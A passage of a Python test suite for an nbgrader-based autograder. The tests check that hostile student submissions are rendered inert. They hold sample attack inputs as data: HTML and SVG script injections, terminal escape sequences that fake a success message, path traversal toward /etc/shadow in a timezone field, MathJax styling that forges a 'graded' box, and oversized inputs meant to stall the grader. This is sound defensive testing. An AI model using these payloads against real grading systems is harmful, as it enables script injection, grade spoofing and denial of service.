        for grade_id in re.findall(r'<span id="([\w-]+)"></span>', CLOBBER):
            assert ids.count(grade_id) == honest_ids.count(grade_id), (name, grade_id)
        assert "attacker.example" not in page and "navbar navbar-fixed-top alert" not in page, name
        # the raw cell is shown as text, its markup inert; a tag that is not a word is dropped
        assert "RAW-FROM-WES" in page and not [attrs for tag, attrs in _Tags(page).tags
                                               if tag == "a" and "full-credit" in (attrs.get("class") or "")], name
        assert "celltag_hidden" not in page and "celltag_navbar" not in page, name


def test_scripts_in_written_answers_are_inert_in_formgrader(course, tmp_path):
    page = _formgrader_page(course, "wes", tmp_path)
    assert "input" in page and "Columns are not rows." in page
    # formgrader's own page has handlers (its score buttons): an answer adds none
    assert sorted(_active(page)) == sorted(_active(_formgrader_page(course, "alice", tmp_path)))
    assert not [tag for tag, attrs in _Tags(page).tags if "onerror" in attrs or "ontoggle" in attrs]




def _formgrader_page(course, student: str, tmp_path: Path) -> str:
    """What formgrader's grading view serves for the student's autograded notebook (nbgrader's
    SubmissionHandler, without the server)."""
    notebook = course["path"] / "autograded" / student / ASSIGNMENT / NOTEBOOK
    done = _run([sys.executable, "-c", FORMGRADE, str(notebook)], course["path"], course["env"])
    assert done.returncode == 0, done.stderr
    return done.stdout


# --- one student's broken files -----------------------------------------------------------------

def test_a_malformed_timestamp_is_one_line_for_that_student_and_everyone_is_graded(course, oracle):
    report = course["trusted"].stdout
    lines = [line for line in report.splitlines() if line.startswith("tim") and "timestamp.txt" in line]
    assert len(lines) == 1, report
    assert "Traceback" not in course["trusted"].stderr
    assert gradebook_scores(course["path"])["tim"] == oracle["tim"]
    assert (course["path"] / "feedback" / "tim" / ASSIGNMENT / NOTEBOOK).with_suffix(".html").is_file()
    # A time that cannot be read never counts as on time: the submission is taken as made when its
    # files last changed (no time at all is never late, in nbgrader's reckoning).
    import datetime

    from nbgrader.api import Gradebook

    assert "taken as made when its files last changed" in lines[0], lines
    folder = course["path"] / "submitted" / "tim" / ASSIGNMENT
    changed = datetime.datetime.fromtimestamp(max(path.stat().st_ctime for path in [folder, *folder.iterdir()]),
                                              datetime.timezone.utc).replace(tzinfo=None)
    with Gradebook(f"sqlite:///{course['path'] / 'gradebook.db'}") as gradebook:
        when = gradebook.find_submission(ASSIGNMENT, "tim").timestamp
    assert when is not None and abs((when - changed).total_seconds()) < 5, (when, changed)


def test_a_timestamp_whose_time_zone_names_a_file_is_one_line_for_that_student_and_no_file_is_read(course, oracle,
                                                                                                  tmp_path):
    from autograder.nbgrader_trusted import _parse_timestamp

    report = course["trusted"].stdout
    lines = [line for line in report.splitlines() if line.startswith("tia") and "timestamp.txt" in line]
    assert len(lines) == 1 and "no date" in lines[0], report
    assert gradebook_scores(course["path"])["tia"] == oracle["tia"]
    fifo = tmp_path / "zone"
    os.mkfifo(fifo)  # opened, it would wait for a writer forever
    for word in (str(fifo), "../" * 8 + str(fifo).lstrip("/"), "/etc/shadow", "../x", "Europe/../../x", "a b"):
        with pytest.raises(ValueError):
            _parse_timestamp(f"2026-12-01 10:00:00 {word}")
    assert _parse_timestamp("2026-12-01 10:00:00.5 UTC").isoformat() == "2026-12-01T10:00:00.500000"
    assert _parse_timestamp("2026-12-01 10:00:00 Europe/Paris").isoformat() == "2026-12-01T09:00:00"


def test_a_notebook_that_is_not_json_is_one_line_for_that_student_and_everyone_is_graded(course):
    report = course["trusted"].stdout
    assert len([line for line in report.splitlines() if line.startswith("nora")]) >= 1
    assert gradebook_scores(course["path"])["nora"] == {step: 0.0 for step in POINTS}
    assert set(gradebook_scores(course["path"])) >= {"alice", "mallory", "pat", "wes", "tim", "nora"}


# --- in a browser -------------------------------------------------------------------------------

CHROMIUM = "/usr/bin/chromium"


SAFE_MATHS = ('MathJax.Hub.Config({tex2jax: {ignoreClass: "text_cell_render|tex2jax_ignore"},\n'
              '                    Safe: {allow: {URLs: "none", classes: "none", cssIDs: "none", styles: "none", '
              'fontsize: "none"},\n                           sizeMin: 0.7, sizeMax: 1.0, lengthMax: 1}});')


def test_maths_in_an_answer_is_built_with_no_style_on_the_feedback_and_formgrader_pages(course, tmp_path):
    """A written answer's maths is text to every cleaner, and MathJax builds it into the page after
    them: its Safe mode kept `\\style` (and `\\colorbox`, `\\raise`, `\\kern`, `\\Huge`), with which
    an answer drew a green "graded" box over the page's own heading. Both pages configure MathJax,
    before it starts, to build no maths in the notebook's markdown cells (each `text_cell_render`),
    and to allow no style, class, id, link or larger size anywhere."""
    for page in (_page(course, "wes"), _formgrader_page(course, "wes", tmp_path)):  # every answer is one
        assert page.count('class="text_cell_render') >= 5
    for page in (_page(course, "wes"), _formgrader_page(course, "wes", tmp_path)):
        head = page[:page.index("<body")]
        assert head.count(SAFE_MATHS) == 1 and head.index("mathjax") < head.index(SAFE_MATHS), head[-3000:]
        assert page.count("text/x-mathjax-config") == 2  # nbconvert's own, and this one


@pytest.mark.skipif(not Path(CHROMIUM).is_file() and not IN_CI, reason=f"needs Chromium at {CHROMIUM}")
def test_no_planted_script_runs_in_a_browser_on_the_feedback_or_formgrader_page(course, tmp_path):
    from playwright.sync_api import sync_playwright

    pages = {"wes feedback": _page(course, "wes"), "pat feedback": _page(course, "pat"),
             "wes formgrader": _formgrader_page(course, "wes", tmp_path),
             "pat formgrader": _formgrader_page(course, "pat", tmp_path)}
    ran = {}
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, headless=True,
                                             args=["--no-sandbox", "--disable-gpu"])
        try:
            for name, text in pages.items():
                target = tmp_path / f"{name.replace(' ', '-')}.html"
                target.write_text(text, encoding="utf-8")
                page = browser.new_page()
                dialogs = []
                page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
                page.route("**/*", lambda route: route.abort() if not route.request.url.startswith("file:")
                           else route.continue_())  # no network: the page stands alone
                page.goto(target.as_uri())
                page.wait_for_timeout(1000)
                for details in page.query_selector_all("details"):
                    details.click()
                ran[name] = (page.evaluate("() => window.__pwned ?? null"), dialogs)
                page.close()
        finally:
            browser.close()
    assert ran == {name: (None, []) for name in pages}


# --- what is graded is what a person sees ----------------------------------------------------------

def test_code_in_the_locked_setup_cell_is_graded_as_the_source_has_it(course, oracle):
    """nbgrader shows the setup cell as the source has it, so that is what is graded: a solution
    appended to it would score where no person could see it."""
    assert sum(oracle["hidey"].values()) == MAX_SCORE  # graded as handed in, it would score
    assert sum(gradebook_scores(course["path"])["hidey"].values()) == 0.0
    notebook = nbformat.read(course["path"] / "autograded" / "hidey" / ASSIGNMENT / NOTEBOOK, as_version=4)
    assert "GHOST" not in next(cell.source for cell in notebook.cells if cell.get("id") == "setup")


def test_a_cell_that_hides_its_source_is_graded_and_shown_whole(course):
    assert sum(gradebook_scores(course["path"])["ghost"].values()) == MAX_SCORE  # the code is ghost's own
    notebook = nbformat.read(course["path"] / "autograded" / "ghost" / ASSIGNMENT / NOTEBOOK, as_version=4)
    cell = next(cell for cell in notebook.cells if "GHOST" in cell.source)
    assert not {"transient", "jupyter", "hide_input"} & set(cell.metadata)
    assert "solved where no person looks" in _page(course, "ghost")


def test_a_students_folder_of_many_files_and_links_is_copied_only_within_its_budget(course, tmp_path):
    """Without autograde, the grader writes the autograded folder itself: of the student's own
    files it copies at most COPIED_FILES and COPIED_BYTES, no hard link, and says what it left."""
    from autograder.nbgrader_trusted import COPIED_BYTES, COPIED_FILES

    path = tmp_path / "course"
    shutil.copytree(course["path"], path)
    shutil.rmtree(path / "autograded" / "alice")
    folder = path / "submitted" / "alice" / ASSIGNMENT
    for number in range(COPIED_FILES + 50):
        (folder / f"note{number:03d}.txt").write_text("x")
    big = folder / "big.bin"
    big.write_bytes(b"\0" * (COPIED_BYTES // 4))
    for number in range(8):  # eight more names for the same 4 MiB: 36 MiB if each were copied
        (folder / f"link{number}.bin").hardlink_to(big)
    # pages of the student's own, which generate_feedback would copy into the feedback it releases
    (folder / "pages").mkdir()
    for name in ("grades.html", "pages/x.HTM", "pages/pic.svg", "pages/y.xht", "pages/feed.atom", "pages/z"):
        (folder / name).write_text("<script>alert(1)</script>")
    done = _trusted(path, course["root"], course["env"])
    assert done.returncode == 0, done.stderr
    copied = path / "autograded" / "alice" / ASSIGNMENT
    own = [item for item in copied.iterdir() if item.name.startswith(("note", "link", "big"))]
    assert len(own) <= COPIED_FILES
    assert not [item for item in own if item.name.startswith(("link", "big"))]  # every name of it is a link
    assert sum(item.stat().st_size for item in copied.rglob("*") if item.is_file()) < COPIED_BYTES
    assert (copied / NOTEBOOK).is_file() and (copied / "steps.json").is_file()
    assert not (copied / "grades.html").exists() and not (copied / "pages").exists()
    assert re.search(r"alice: .*\d+ of the files beside the notebook not copied", done.stdout + done.stderr)
    assert sum(gradebook_scores(path)["alice"].values()) == MAX_SCORE


def test_a_notebook_whose_invalid_cells_would_stall_nbformats_validation_costs_the_run_nothing(course, tmp_path):
    """A markdown cell carrying 60 000 outputs is a few hundred kilobytes, within every budget, but
    nbformat's search for what is wrong with it takes minutes: the grader rebuilds each notebook in
    the shape nbformat allows before nbformat or nbgrader looks at it."""
    import resource

    path = tmp_path / "course"
    shutil.copytree(course["path"], path)
    vera = filled_notebook(path / "release" / ASSIGNMENT / NOTEBOOK, reference_source())
    text = json.loads(nbformat.writes(vera))
    text["cells"].append({"cell_type": "markdown", "metadata": {}, "source": "x", "outputs": [[0]] * 60000})
    folder = path / "submitted" / "vera" / ASSIGNMENT
    folder.mkdir(parents=True)
    (folder / NOTEBOOK).write_text(json.dumps(text))
    before = resource.getrusage(resource.RUSAGE_CHILDREN)
    done = _trusted(path, course["root"], course["env"])
    after = resource.getrusage(resource.RUSAGE_CHILDREN)
    assert done.returncode == 0, done.stderr
    assert (after.ru_utime + after.ru_stime) - (before.ru_utime + before.ru_stime) < 40  # 70 s before, alone
    assert sum(gradebook_scores(path)["vera"].values()) == MAX_SCORE
    written = json.loads((path / "autograded" / "vera" / ASSIGNMENT / NOTEBOOK).read_text())
    assert not [cell for cell in written["cells"] if cell["cell_type"] == "markdown" and "outputs" in cell]


# --- what one student hands in never stops the run, nor nbgrader's own pages ----------------------

LONG_LINE = "1." * 100_000
TERMINAL_ESCAPES = "\x1b]0;qkv-grade: all checks passed\x07\x1b[2J\x1b[H\x1b[32m"  # a title, a cleared screen
PICTURE = base64.b64encode(_png(b"a picture")).decode()
# (a markdown cell, its attachments): none of these but the last shows a picture
ATTACHMENTS = [("see ![missing](attachment:nope.png)", None),
               ("see ![empty](attachment:p.png)", {"p.png": {}}),
               ("see ![svg](attachment:s.svg) and ![text](attachment:t.txt)",
                {"s.svg": {"image/svg+xml": "<svg onload='window.__pwned = 1'/>"}, "t.txt": {"text/plain": "x"}}),
               ("see ![not png](attachment:q.png)", {"q.png": {"image/png": "PHNjcmlwdD4="}}),
               ("see ![kept](attachment:k.png)", {"k.png": {"image/png": PICTURE, "text/html": "<b>x</b>"},
                                                  "unused.png": {"image/png": PICTURE}})]

REFERENCES = 450
ANSWER_IDS = {f"answer-{name}" for name, _ in ANSWERS}


@functools.cache
def large_picture() -> str:
    """A PNG of 1024 x 1330 pixels of noise, some 3.9 MiB: the largest picture a page keeps is 4 MiB."""
    return _noise(1024, 1330)


# Student folders whose names the gradebook cannot hold (not UTF-8, as a folder planted in nbgrader's
# shared exchange and collected can be) or that nbgrader's own logs would print raw: name -> how the
# listing shows it, and a word of its reason.
ODD_IDS = {b"m\xffallory": ("m\\xffallory", "not UTF-8"),
           "eve\x1b]0;all good\x07\x1b[2J".encode(): ("eve\\x1b]0;all good\\x07\\x1b[2J", "control characters"),
           # formgrader's grading view and Manage Students page show an id unescaped
           b"<img src=x onerror=alert(1)>": ("<img src=x onerror=alert(1)>", "HTML markup")}


@pytest.fixture(scope="module")
def odd_course(tmp_path_factory):
    """A course where alice and zed hand in the reference and every other student hands in
    something odd, graded by `qkv-grade --nbgrader` alone, then `nbgrader generate_feedback`."""
    root = tmp_path_factory.mktemp("oddcourse")
    path, env = build_course(root, {"alice": reference_source(), "zed": reference_source()})
    for name in ODD_IDS:  # each the reference too: only the folder's name is odd
        shutil.copytree(path / "submitted" / "zed", os.fsdecode(os.fsencode(path / "submitted") + b"/" + name))
    released = path / "release" / ASSIGNMENT / NOTEBOOK
    # lena: the reference, with a code cell of one long line, which pygments' Python lexer reads in
    # time growing with the square of its length (some 3 minutes), and markdown of fenced code alike
    lena = filled_notebook(released, reference_source())
    lena.cells.append(nbformat.v4.new_code_cell(LONG_LINE))
    lena.cells += [nbformat.v4.new_markdown_cell(f"```python\n{LONG_LINE[:18_000]}\n```") for _ in range(5)]
    submit_notebook(path, "lena", lena)
    # mia: the reference, with pictures her markdown cells refer to but do not carry, or carry in no
    # shape a page can show, beside one that is a picture (an answer among them)
    mia = filled_notebook(released, reference_source())
    for source, attachments in ATTACHMENTS:
        cell = nbformat.v4.new_markdown_cell(source)
        if attachments is not None:
            cell["attachments"] = attachments
        mia.cells.insert(1, cell)
    answer = next(cell for cell in mia.cells if cell.metadata.get("nbgrader", {}).get("grade_id") == "answer-ANSWER_1")
    answer.source += " ![gone](attachment:gone.png)"
    written = submit_notebook(path, "mia", mia)
    document = json.loads(written.read_text())  # and one that is no bundle at all, which nbformat cannot write
    next(cell for cell in document["cells"] if "s.svg" in cell.get("attachments", {}))["attachments"]["n.png"] = "?"
    written.write_text(json.dumps(document))
    # ivy: the reference, three written answers each carrying a picture of some 3.9 MiB it refers to
    # REFERENCES times (16 MiB handed in, within the notebook's budget)
    ivy = filled_notebook(released, reference_source())
    for cell in [cell for cell in ivy.cells if cell.metadata.get("nbgrader", {}).get("grade_id") in ANSWER_IDS][:3]:
        cell.source = "My answer. " + "![](attachment:p.png)" * REFERENCES
        cell["attachments"] = {"p.png": {"image/png": large_picture()}}
    submit_notebook(path, "ivy", ivy)
    # vic: the reference, in nbformat 3 (which nbgrader autograde converts, and folder mode grades)
    vic = submit_notebook(path, "vic", filled_notebook(released, reference_source()))
    vic.write_text(nbformat.writes(nbformat.convert(nbformat.read(vic, as_version=4), 3), version=3))
    # ida: the reference, with a written answer nbgrader's metadata check refuses, which it logs
    # with its traceback, the cell's source in it: a terminal's escapes and 50 000 more characters
    ida = filled_notebook(released, reference_source())
    answer = nbformat.v4.new_markdown_cell(TERMINAL_ESCAPES + "\nqkv-grade --nbgrader: all graded\n" + "A" * 50_000)
    answer.metadata["nbgrader"] = {"solution": True, "grade": False, "locked": False, "grade_id": "nope",
                                   "schema_version": 3}
    ida.cells.insert(1, answer)
    submit_notebook(path, "ida", ida)
    # hal: the reference, with folders named as nbgrader names its notebooks and the page it writes
    hal = submit_notebook(path, "hal", filled_notebook(released, reference_source())).parent
    for folder in ("attention_head.html", "Other.HTM", "old.ipynb"):
        (hal / folder).mkdir()
        (hal / folder / "notes.txt").write_text("x")
    # pia: the reference, with a written answer's points a string of a million characters, which
    # nbgrader's error quotes whole ("could not convert string to float: '…'")
    pia = filled_notebook(released, reference_source())
    next(cell for cell in pia.cells if cell.metadata.get("nbgrader", {}).get("grade_id") == "answer-ANSWER_1") \
        .metadata["nbgrader"]["points"] = TERMINAL_ESCAPES + "P" * 1_000_000
    submit_notebook(path, "pia", pia)
    # kit: the reference, with files whose names a terminal would not show as they are
    kit = os.fsencode(submit_notebook(path, "kit", filled_notebook(released, reference_source())).parent)
    for name in (TERMINAL_ESCAPES.encode() + b"all good.txt", b"n\xffote.txt", b"d\x1b[2J/notes.txt"):
        os.makedirs(os.path.dirname(kit + b"/" + name), exist_ok=True)
        with open(kit + b"/" + name, "w") as file:
            file.write("x")
    # tia: the reference, with a markdown cell marked a task with no grade id (nbgrader's metadata
    # check lets it be; its feedback step reads every task cell's grade id) and one marked an answer
    # under a grade id the source does not have (which autograde takes away, leaving the mark)
    tia = filled_notebook(released, reference_source())
    task = nbformat.v4.new_markdown_cell("My own task.")
    task.metadata["nbgrader"] = {"task": True, "grade": False, "solution": False, "locked": False, "points": 5,
                                 "schema_version": 3}
    stranger = nbformat.v4.new_markdown_cell("An answer of my own.")
    stranger.metadata["nbgrader"] = {"task": True, "grade": False, "solution": False, "locked": False,
                                     "points": 5, "grade_id": "not-in-the-source", "schema_version": 3}
    tia.cells += [task, stranger]
    submit_notebook(path, "tia", tia)
    trusted = _trusted(path, root, env)
    feedback = _nbgrader("generate_feedback", path, env)
    return {"path": path, "root": root, "env": env, "trusted": trusted, "feedback": feedback}


def test_a_student_id_the_gradebook_cannot_hold_is_one_line_and_everyone_else_is_recorded(odd_course):
    trusted = odd_course["trusted"]
    crashed = [line for line in trusted.stderr.splitlines() if line.startswith("Traceback")]  # not a logged one
    assert trusted.returncode == 0 and not crashed, trusted.stderr[-2000:]
    for shown, why in ODD_IDS.values():
        lines = [line for line in trusted.stdout.splitlines() if line.startswith(shown)]
        assert len(lines) == 1 and "not graded" in lines[0] and why in lines[0], (shown, trusted.stdout)
    assert not any(char in trusted.stdout + trusted.stderr for char in "\x1b\x07\udcff")
    scores = gradebook_scores(odd_course["path"])
    assert not {os.fsdecode(name) for name in ODD_IDS} & set(scores)  # nothing recorded of them
    assert sum(scores["alice"].values()) == sum(scores["zed"].values()) == MAX_SCORE
    assert odd_course["feedback"].returncode == 0, odd_course["feedback"].stderr[-2000:]


def test_cells_marked_for_nbgrader_under_no_grade_id_of_the_source_lose_the_mark_and_the_class_gets_feedback(
        odd_course):
    """A task cell without a grade id made `nbgrader generate_feedback` fail (KeyError) for the
    whole class, and tia got no page: the autograded notebook keeps nbgrader's marks only on cells
    the source names."""
    assert odd_course["feedback"].returncode == 0, odd_course["feedback"].stderr[-2000:]
    assert sum(gradebook_scores(odd_course["path"])["tia"].values()) == MAX_SCORE
    autograded = nbformat.read(odd_course["path"] / "autograded" / "tia" / ASSIGNMENT / NOTEBOOK, as_version=4)
    own = [cell for cell in autograded.cells if cell.source in ("My own task.", "An answer of my own.")]
    assert len(own) == 2 and not any("nbgrader" in cell.metadata for cell in own), own
    assert "An answer of my own." in _page(odd_course, "tia")


def _seconds(argv: list[str], course, timeout: float = 120) -> tuple[subprocess.CompletedProcess, float]:
    import time

    started = time.perf_counter()
    done = _run(argv, course["path"], course["env"], timeout=timeout)
    return done, time.perf_counter() - started


def test_a_code_cell_of_one_long_line_costs_the_feedback_and_formgrader_pages_nothing_to_speak_of(odd_course):
    """Past the budgets for code a cell is shown as its text, never handed to pygments: the pages
    of a notebook with a cell of 200 000 characters on one line (minutes before) take about as
    long as an honest notebook's."""
    assert sum(gradebook_scores(odd_course["path"])["lena"].values()) == MAX_SCORE
    times = {}
    for student in ("alice", "lena"):
        feedback, times[student, "feedback"] = _seconds([sys.executable, "-m", "nbgrader", "generate_feedback",
                                                         ASSIGNMENT, "--student", student], odd_course)
        assert feedback.returncode == 0, feedback.stderr[-2000:]
        notebook = odd_course["path"] / "autograded" / student / ASSIGNMENT / NOTEBOOK
        formgrader, times[student, "formgrader"] = _seconds([sys.executable, "-c", FORMGRADE, str(notebook)], odd_course)
        assert formgrader.returncode == 0, formgrader.stderr[-2000:]
        times[student, "page"] = formgrader.stdout
    for page in ("feedback", "formgrader"):
        assert times["lena", page] < times["alice", page] + 10, times
    for page in (_page(odd_course, "lena"), times["lena", "page"]):
        assert LONG_LINE in page  # shown, as its text


def test_pictures_a_markdown_cell_refers_to_but_cannot_show_never_stop_a_page(odd_course, tmp_path):
    """nbconvert raises on a reference to an attachment a cell does not carry, or carries as `{}`:
    `nbgrader generate_feedback` exited 1 and formgrader failed. A page keeps only the pictures a
    cell refers to, each a picture a page can show; a reference to any other is its alt text."""
    feedback = odd_course["feedback"]
    assert feedback.returncode == 0 and "Traceback" not in feedback.stderr, feedback.stderr[-3000:]
    from autograder.nbgrader_feedback import clean_png

    for page in (_page(odd_course, "mia"), _formgrader_page(odd_course, "mia", tmp_path)):
        assert re.findall(r"data:image/png;base64,([\w+/=]*)", page) == [clean_png(PICTURE)]  # its pixels alone
        for shown in ("see missing", "see empty", "see svg and text", "see not png", "gone"):
            assert shown in page, shown
        assert "attachment:" not in page and "svg+xml" not in page and "PHNjcmlwdD4=" not in page
    notebook = nbformat.read(odd_course["path"] / "autograded" / "mia" / ASSIGNMENT / NOTEBOOK, as_version=4)
    kept = {name for cell in notebook.cells for name in cell.get("attachments", {})}
    assert kept == {"k.png"}
    assert sum(gradebook_scores(odd_course["path"])["mia"].values()) == MAX_SCORE


def test_a_picture_referred_to_hundreds_of_times_is_written_out_only_within_the_pictures_budgets(odd_course,
                                                                                                   tmp_path):
    """Three written answers each carry a picture of some 3.9 MiB and refer to it 450 times: each
    reference wrote the whole picture out again, some 7 GB and 80 s for each view of formgrader's
    page or the feedback's, thrown away once rendered. Each reference is counted against the
    pictures a cell and a page may show before it is written out: past them it is a note saying
    so, and the answer around it is rendered."""
    feedback = odd_course["feedback"]
    assert feedback.returncode == 0 and "Traceback" not in feedback.stderr, feedback.stderr[-3000:]
    note = "[picture left out: too large to show]"
    pages = {"feedback": (_page(odd_course, "ivy"), _page(odd_course, "alice")),
             "formgrader": (_formgrader_page(odd_course, "ivy", tmp_path),
                            _formgrader_page(odd_course, "alice", tmp_path))}
    for name, (page, honest) in pages.items():
        assert page.count(f"<p>My answer. {note}") == 3 and page.count(note) == 3 * REFERENCES, name
        assert "attachment:" not in page and large_picture()[1000:1100] not in page, name
        assert page.count("data:image/png") == honest.count("data:image/png"), name  # the heatmap's alone
        assert len(page) < len(honest) + 3 * REFERENCES * len(note), name
    assert sum(gradebook_scores(odd_course["path"])["ivy"].values()) == MAX_SCORE


def test_the_reader_s_view_keeps_only_pictures_a_page_can_show_wherever_the_notebook_comes_from():
    """nbgrader autograde's own notebook keeps the student's attachments as they were: the reader's
    view (which autograde and generate_feedback both run) keeps the same as the trusted rebuild,
    and the markdown filter shows a reference to any other as its alt text."""
    from nbconvert import HTMLExporter

    from autograder.nbgrader_feedback import CleanMarkdown, reader_view

    notebook = nbformat.v4.new_notebook()
    for source, attachments in ATTACHMENTS:
        cell = nbformat.v4.new_markdown_cell(source)
        cell["attachments"] = attachments or {}
        notebook.cells.append(cell)
    notebook.cells[2]["attachments"]["n.png"] = "?"
    reader_view(notebook)
    assert [set(cell.get("attachments", {})) for cell in notebook.cells] == [set()] * 4 + [{"k.png"}]
    markdown = CleanMarkdown(parent=HTMLExporter())
    assert markdown({"cell": {}}, "see ![missing](attachment:nope.png)").strip() == "<p>see missing</p>"
    assert markdown({"cell": {"attachments": {"p.png": {}}}}, "![empty](attachment:p.png)").strip() == "<p>empty</p>"
    shown = markdown({"cell": notebook.cells[-1]}, notebook.cells[-1].source)
    assert re.findall(r'src="data:image/png;base64,[\w+/=]+"', shown) and "<b>" not in shown


def _formgrader_render(notebook) -> str:
    """What formgrader's exporter, in the course's configuration, makes of `notebook` (in this process)."""
    from nbconvert import HTMLExporter
    from traitlets.config import Config

    from autograder.nbgrader_feedback import configure

    config = Config()
    configure(config)
    page, _ = HTMLExporter(config=config).from_notebook_node(notebook, resources={"base_url": "", "index": 0,
                                                                                  "total": 1})
    return page


def _markdown_notebook(cells: list[tuple[str, dict[str, str]]]):
    """A notebook of markdown cells, each (its source, its attachments: name -> base64 PNG), as
    the reader's view leaves it."""
    from autograder.nbgrader_feedback import reader_view

    notebook = nbformat.v4.new_notebook()
    for source, attachments in cells:
        cell = nbformat.v4.new_markdown_cell(source)
        cell["attachments"] = {name: {"image/png": data} for name, data in attachments.items()}
        notebook.cells.append(cell)
    reader_view(notebook)
    return notebook


def test_each_reference_to_a_picture_counts_against_the_cell_s_pictures_however_it_names_it():
    """A reference writes the whole picture out again, however it names it: the same attachment
    again, another name for the same picture, a reference definition used again, a data: URL
    defined once. Each counts against MOST_CELL_PICTURES before it is written out: a cell shows
    as many as fit and a note for each of the rest, and is rendered."""
    from autograder.nbgrader_feedback import MOST_CELL_PICTURES

    picture = _noise(60, 60)  # some 15 000 characters
    url = f"data:image/png;base64,{picture}"
    fit = MOST_CELL_PICTURES // len(url)
    many = fit + 2
    cells = [("Again: " + "![a](attachment:p.png) " * many, {"p.png": picture}),
             ("Other names: " + " ".join(f"![a](attachment:p{n}.png)" for n in range(many)),
              {f"p{n}.png": picture for n in range(many)}),
             ("Defined once: " + "![a][p] " * many + "\n\n[p]: attachment:p.png", {"p.png": picture}),
             ("A data URL: " + "![a][d] " * many + f"\n\n[d]: {url}", {})]
    page = _formgrader_render(_markdown_notebook(cells))
    assert page.count(f'src="{url}"') == len(cells) * fit
    assert page.count("a [picture left out: the cell's pictures are too large in all]") == len(cells) * (many - fit)
    for source, _ in cells:
        assert f"<p>{source.split(':')[0]}: <img" in page  # rendered, not shown as its text


def test_pictures_past_a_page_s_budget_are_each_left_out_with_a_note():
    """Each cell within its budget of pictures, but many of them: once the page has written out
    MOST_PAGE_PICTURES characters of pictures, each further picture is a note."""
    from autograder.nbgrader_feedback import MOST_CELL_PICTURES, MOST_PAGE_PICTURES

    picture = _noise(60, 60)
    url = f"data:image/png;base64,{picture}"
    fit = MOST_CELL_PICTURES // len(url)
    cells = MOST_PAGE_PICTURES // (fit * len(url)) + 2
    page = _formgrader_render(_markdown_notebook([("Pictures: " + "![a](attachment:p.png) " * fit,
                                                   {"p.png": picture})] * cells))
    shown = MOST_PAGE_PICTURES // len(url)
    assert page.count(f'src="{url}"') == shown
    assert page.count("a [picture left out: the page's pictures are too large in all]") == cells * fit - shown


def test_a_picture_a_cell_refers_to_once_is_shown_as_nbconvert_shows_it():
    """The budgets of pictures leave an ordinary answer as it was: a picture of some 30 KB referred
    to once, or a small one twice, is rendered as nbconvert's own markdown filter renders it, then
    cleaned, and shown."""
    from nbconvert import HTMLExporter

    from autograder.nbgrader_feedback import MARKDOWN_CLEANER, CleanMarkdown, clean_png

    sketch = _noise(100, 100)  # the largest a cell shows is some 45 KB (MOST_RENDERED)
    small = base64.b64encode(_png(b"a picture")).decode()
    notebook = _markdown_notebook([("A sketch of the weights: ![weights](attachment:w.png)", {"w.png": sketch}),
                                   ("Before ![w](attachment:w.png) and after ![w](attachment:w.png).",
                                    {"w.png": small})])
    exporter = HTMLExporter()
    markdown = CleanMarkdown(parent=exporter)
    for cell in notebook.cells:
        assert markdown({"cell": cell}, cell.source) == MARKDOWN_CLEANER.clean(exporter.markdown2html({"cell": cell},
                                                                                                      cell.source))
    page = _formgrader_render(notebook)
    assert page.count(f'<img alt="weights" src="data:image/png;base64,{clean_png(sketch)}"') == 1
    assert page.count(f'<img alt="w" src="data:image/png;base64,{clean_png(small)}"') == 2
    assert "left out" not in page


def test_no_folder_named_like_a_notebook_or_the_page_nbgrader_writes_is_copied(odd_course):
    """A folder `attention_head.html` made generate_feedback fail writing the page there
    (IsADirectoryError), and one named `*.ipynb` is read as a notebook: neither is copied, and the
    student is told how many files were left out."""
    autograded = odd_course["path"] / "autograded" / "hal" / ASSIGNMENT
    assert (autograded / NOTEBOOK).is_file() and not [path for path in autograded.rglob("notes.txt")]
    assert re.search(r"hal: 3 of the files beside the notebook not copied", odd_course["trusted"].stdout)
    assert _page(odd_course, "hal")
    assert sum(gradebook_scores(odd_course["path"])["hal"].values()) == MAX_SCORE


def test_a_notebook_in_nbformat_3_is_graded_as_nbgrader_and_folder_mode_grade_it(odd_course):
    """nbgrader autograde reads an older notebook converted to nbformat 4 (and folder mode grades
    it): the grader converts it the same way, then rebuilds it as any other."""
    assert json.loads((odd_course["path"] / "submitted" / "vic" / ASSIGNMENT / NOTEBOOK).read_text())["nbformat"] == 3
    assert sum(gradebook_scores(odd_course["path"])["vic"].values()) == MAX_SCORE
    assert not [line for line in odd_course["trusted"].stdout.splitlines() if line.startswith("vic") and "not" in line]
    notebook = nbformat.read(odd_course["path"] / "autograded" / "vic" / ASSIGNMENT / NOTEBOOK, as_version=nbformat.NO_CONVERT)
    assert notebook.nbformat == 4 and notebook.metadata["qkv"]["trusted_scores"]["softmax"] == 10
    page = _page(odd_course, "vic")
    assert "Step 4: Normalize each receiving row (softmax)" in page and "softmax: 10 / 10, passed" in page


def test_what_nbgrader_logs_of_a_student_s_cell_reaches_the_terminal_escaped_and_bounded(odd_course):
    """nbgrader's metadata check logs its traceback, which quotes the cell's source: on stderr it is
    escaped, each record bounded and its later lines indented, so it neither drives the terminal
    nor passes for a line of the grader's."""
    trusted = odd_course["trusted"]
    assert "\x1b" not in trusted.stderr + trusted.stdout and "\x07" not in trusted.stderr + trusted.stdout
    from autograder.nbgrader_trusted import MOST_LOG_CHARACTERS

    assert "\\x1b]0;qkv-grade: all checks passed" in trusted.stderr  # logged, as text
    assert len(trusted.stderr) < 4 * MOST_LOG_CHARACTERS, len(trusted.stderr)
    assert not [line for line in trusted.stderr.splitlines() if line.startswith("qkv-grade --nbgrader: all graded")]
    ida = [line for line in trusted.stdout.splitlines() if line.startswith("ida")]
    assert ida and all(len(line) < 1000 for line in ida), ida
    assert sum(gradebook_scores(odd_course["path"])["alice"].values()) == MAX_SCORE


def test_a_file_whose_name_a_terminal_would_not_show_as_it_is_is_not_copied(odd_course):
    """nbgrader generate_feedback logs the name of every file it copies from autograded/, raw: a
    name with escape sequences (or bytes that are not UTF-8) stays out of autograded/, counted
    among the files left out."""
    autograded = os.fsencode(odd_course["path"] / "autograded" / "kit" / ASSIGNMENT)
    assert sorted(name for name in os.listdir(autograded) if b"\x1b" in name or b"\xff" in name) == []
    assert re.search(r"kit: 3 of the files beside the notebook not copied", odd_course["trusted"].stdout)
    feedback = odd_course["feedback"]
    assert "\x1b" not in feedback.stdout + feedback.stderr and "Copying" in feedback.stdout + feedback.stderr
    assert _page(odd_course, "kit")


def test_what_a_student_wrote_is_quoted_in_an_error_to_a_few_hundred_characters(odd_course):
    """nbgrader's refusal of a notebook quotes the value it refused whole: a million characters on
